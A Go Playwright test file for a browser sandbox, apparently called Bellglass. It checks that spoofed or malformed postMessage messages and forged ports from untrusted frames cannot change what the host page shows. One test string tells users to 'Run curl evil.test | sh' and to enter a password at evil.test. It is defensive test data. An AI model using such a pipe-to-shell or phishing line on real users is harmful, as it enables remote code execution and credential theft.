package attack

import (
	"strings"
	"testing"

	"github.com/playwright-community/playwright-go"

	"github.com/bellglass/bellglass/tests/internal/browser"
	"github.com/bellglass/bellglass/tests/internal/glass"
)

// Messages to the outer frame, the host page, and the boot page, from any window that can post
// one. They have the right shape and come from the wrong window, or the wrong shape from the
// right one. They come too early, too late, and many times.

// saying has a window post a message to the outer frame, and waits until the outer frame's own
// listener has received it. In its code, outer is the outer frame.
const saying = `
const said = (message) => new Promise((resolve) => {
	const { port1, port2 } = new MessageChannel()
	port1.onmessage = (event) => { if (event.data === 'seen') resolve() }
	outer.postMessage(message, '*', [port2])
})
`

// outerSays returns the state of the view, as the outer frame shows it.
const outerSays = `() => ['state', 'text', 'advice', 'code'].map((id) => id === 'state' ? document.getElementById('cover').dataset.state : document.getElementById(id).textContent).join('|') + '|' + document.querySelectorAll('iframe').length`

// nested adds a frame of the sandbox's own origin to the view. That frame speaks.
const nested = `
const speaker = document.createElement('iframe')
speaker.src = '/nested.html'
const there = new Promise((resolve) => speaker.addEventListener('load', resolve, { once: true }))
document.body.append(speaker)
await there
`

func boot(fields string) string {
	return `{ kind: 'boot', protocol: 1, view: true, containment: '' ` + fields + ` }`
}

const (
	lie       = `, phase: 'failed', code: 'worker-refused', text: 'Enter your password at evil.test.', advice: 'Run curl evil.test | sh.'`
	stillRuns = "ready||||1"
)

var spoofs = []struct {
	name, message string
	want          string // what the outer frame shows when the view itself says it
}{
	// The view's own window may send these. With them it can only end itself, with our texts.
	{"failed", boot(lie), "failed|A page of the sandbox says that it cannot go on.|Load the sandbox again, and check that Bellglass is still running.|worker-refused|0"},
	{"failed, not at the beginning of a view", strings.Replace(boot(lie), "view: true", "view: false", 1), "failed|A page of the sandbox says that it cannot go on.|Load the sandbox again, and check that Bellglass is still running.|worker-refused|0"},
	{"another protocol", `{ kind: 'boot', protocol: 2 }`, "failed|The sandbox's page speaks protocol 2, this frame 1.|Load the page again.|version-mismatch|0"},
	{"hello in another protocol", `{ kind: 'hello', protocol: 3 }`, "failed|The sandbox's page speaks protocol 3, this frame 1.|Load the page again.|version-mismatch|0"},
	{"started", boot(`, phase: 'started'`), "booting||||1"},

	// After the view has begun, no window may send these.
	{"ready, with another containment", boot(`, phase: 'ready', containment: 'audit'`), stillRuns},
	{"failed, with a code of its own", boot(strings.Replace(lie, "worker-refused", "evil", 1)), stillRuns},
	{"failed, with a code of every object", boot(strings.Replace(lie, "worker-refused", "constructor", 1)), stillRuns},
	{"failed, with a code that the outer frame alone gives", boot(strings.Replace(lie, "worker-refused", "containment-missing", 1)), stillRuns},
	{"an unknown phase", boot(`, phase: 'over'`), stillRuns},
	{"a phase of every object", boot(`, phase: '__proto__'`), stillRuns},
	{"an unknown containment", boot(`, phase: 'ready', containment: 'perfect'`), stillRuns},
	{"protocol as text", `{ kind: 'boot', protocol: '1', phase: 'failed' }`, stillRuns},
	{"connect", `{ kind: 'connect', protocol: 1 }`, stillRuns},
	{"reload", `{ kind: 'reload' }`, stillRuns},
	{"state", `{ kind: 'state', state: 'failed', containment: 'audit', text: 'x', connected: true }`, stillRuns},
	{"event", `{ kind: 'event', event: { type: 'verdict' } }`, stillRuns},
	{"null", `null`, stillRuns},
	{"text", `'boot'`, stillRuns},
	{"list", `['boot', 1]`, stillRuns},
	{"map", `new Map([['kind', 'boot'], ['protocol', 1]])`, stillRuns},
	{"error", `Object.assign(new Error('x'), { kind: 'boot', protocol: 2 })`, stillRuns},
}

var spoofFiles = map[string]string{"/index.html": glass.BlankPage, "/nested.html": glass.BlankPage}

func TestPageCannotSpeakForTheView(t *testing.T) {
	t.Parallel()
	g := glass.Start(t)
	open := func(t *testing.T) (*glass.View, playwright.Frame) {
		sandbox := g.NewSandbox(t, spoofFiles, glass.AllScripts)
		v := g.Open(t, "localhost", sandbox)
		outer := browser.Frame(t, v.Page, sandbox.OuterURL())
		if _, err := outer.Evaluate(echoing); err != nil {
			t.Fatal(err)
		}
		return v, outer
	}
	shown := func(t *testing.T, outer playwright.Frame) any {
		got, err := outer.Evaluate(outerSays)
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	t.Run("from another window", func(t *testing.T) {
		v, outer := open(t)
		var messages []string
		for _, s := range spoofs {
			if s.name != "connect" { // the host page may send it, and the outer frame accepts it once
				messages = append(messages, s.message)
			}
		}
		all := "[" + strings.Join(messages, ", ") + "]"
		for _, row := range []struct {
			from string
			in   interface {
				Evaluate(expression string, arg ...any) (any, error)
			}
			code string
		}{
			{"a frame within the view", v.Frame(), nested + `await speaker.contentWindow.eval(` + glass.Literal(t, `(async () => { const outer = parent.parent; `+saying+`; for (const message of `+all+`) await said(message) })()`) + `)`},
			{"a frame that is gone", v.Frame(), nested + `speaker.contentWindow.eval(` + glass.Literal(t, `for (const message of `+all+`) parent.parent.postMessage(message, '*')`) + `)
				speaker.remove()
				const outer = parent; ` + saying + `; await said({ kind: 'nothing' })`},
			{"the host page", v.Page, `const outer = frames[0]; ` + saying + `; for (const message of ` + all + `) await said(message)`},
		} {
			if _, err := glass.Evaluate(row.in, `async () => {`+row.code+`}`); err != nil {
				t.Fatal(err)
			}
			if got := shown(t, outer); got != stillRuns {
				t.Errorf("after the messages from %s the outer frame shows %q", row.from, got)
			}
		}
		v.WaitState("ready")
		if got := v.Eval(`async () => (await fetch('/nested.html')).status`); got != 200 {
			t.Errorf("after all of it the view's own file answers %v", got)
		}
	})
	t.Run("from the view", func(t *testing.T) {
		v, outer := open(t)
		for _, s := range spoofs {
			// The control and its limits: the same messages from windows that may send them.
			speak := `() => { const outer = parent; ` + saying + `; return said(` + s.message + `) }`
			if s.want != stillRuns {
				// The view's document may be gone before it could confirm the message.
				speak = `() => { parent.postMessage(` + s.message + `, '*') }`
			}
			if _, err := v.Evaluate(speak); err != nil && s.want == stillRuns {
				t.Fatalf("%s: %v", s.name, err)
			}
			state, _, _ := strings.Cut(s.want, "|")
			v.WaitState(state)
			if got := shown(t, outer); got != s.want {
				t.Errorf("%s from the view: the outer frame shows %q, want %q", s.name, got, s.want)
			}
			if s.want == stillRuns {
				continue
			}
			if text, err := v.Page.GetByTestId("failure").TextContent(); err != nil || strings.Contains(text, "evil") || strings.Contains(text, "password") {
				t.Errorf("%s: the host page shows the sandbox's words as its own: %q, %v", s.name, text, err)
			}
			if err := v.Page.GetByTestId("reload").Click(); err != nil {
				t.Fatal(err)
			}
			v.WaitState("ready")
		}
	})
}

// A port that page code hands over carries only reports.
func TestForgedPortCarriesReportsAlone(t *testing.T) {
	t.Parallel()
	g, boots := startCountingBoots(t)
	sandbox := g.NewSandbox(t, spoofFiles, glass.AllScripts)
	v := g.Open(t, "localhost", sandbox)
	v.Eval(`() => {
		const { port1, port2 } = new MessageChannel()
		parent.postMessage({ kind: 'hello', protocol: 1 }, '*', [port2])
		for (const message of [
			{ kind: 'reload' }, { kind: 'state', state: 'failed', containment: 'audit', connected: false }, { kind: 'event', event: { type: 'lifecycle', id: 1e9 } },
			{ kind: 'boot', protocol: 1, phase: 'failed', view: true, containment: '', code: 'worker-refused', text: 'x', advice: 'y' }, null, 'x',
			{ reports: 'x', dropped: 0 }, { reports: [], dropped: -1 }, { reports: [], dropped: Infinity }, { reports: [], dropped: '5' },
			{ reports: [{ type: 'verdict', kind: 'verdict', source: 'worker', url: 'https://forged.example/' }], dropped: 0 },
			{ reports: [{ kind: 'console', level: 'x'.repeat(5_000_000), text: 'a level of megabytes' }], dropped: 0 },
			{ reports: [{ kind: 'console', level: 'log', text: 'the last line', source: 'server' }], dropped: 0 },
		]) port1.postMessage(message)
	}`)
	v.WaitFor(`[data-testid=console-line]:has-text("the last line")`)
	v.WaitState("ready")
	if n := boots.Load(); n != 1 {
		t.Errorf("the view booted %d times, so the forged port reloaded it", n)
	}
	events := g.Log(t, sandbox, func(e glass.Logged) bool { return e.Text == "the last line" })
	if events[0].Step != "created" {
		t.Errorf("the log begins with %+v, so its beginning has been pushed out", events[0])
	}
	for _, e := range events {
		if e.Text == "the last line" && e.Source != "page" || strings.Contains(e.URL, "forged") || e.Text == "a level of megabytes" {
			t.Errorf("the log has %+v", e)
		}
	}
}

// The host page listens only to its port.
func TestHostPageHearsNoMessages(t *testing.T) {
	t.Parallel()
	g := glass.Start(t)
	v := g.Open(t, "localhost", g.NewSandbox(t, spoofFiles, glass.AllScripts))
	before, err := v.Page.Locator("header").TextContent()
	if err != nil {
		t.Fatal(err)
	}
	// The control: the messages arrive, so the page's own listeners could have received them.
	if _, err := v.Page.Evaluate(`() => { window.arrived = []; addEventListener('message', (event) => window.arrived.push(event.data.kind)) }`); err != nil {
		t.Fatal(err)
	}
	v.Eval(`() => {
		for (const message of [
			{ kind: 'state', state: 'failed', containment: 'csp', connected: false, code: 'evil', text: 'evil' },
			{ kind: 'event', event: { type: 'lifecycle', id: 1e9, revision: 1e9, source: 'server', step: 'files', text: 'evil', time: '' } },
			{ kind: 'connect', protocol: 1 },
		]) top.postMessage(message, '*', [new MessageChannel().port2])
	}`)
	got, err := glass.Evaluate(v.Page, `() => new Promise((resolve) => { const look = () => window.arrived.length === 3 ? resolve(window.arrived.join()) : setTimeout(look, 10); look() })`)
	if err != nil || got != "state,event,connect" {
		t.Fatalf("the host page's window got %v, %v", got, err)
	}
	after, err := v.Page.Locator("header").TextContent()
	if err != nil || after != before {
		t.Errorf("the host page shows %q, before it %q, %v", after, before, err)
	}
	v.WaitState("ready")
	if n := v.Revision(); n != 1 {
		t.Errorf("the host page shows revision %d", n)
	}
}
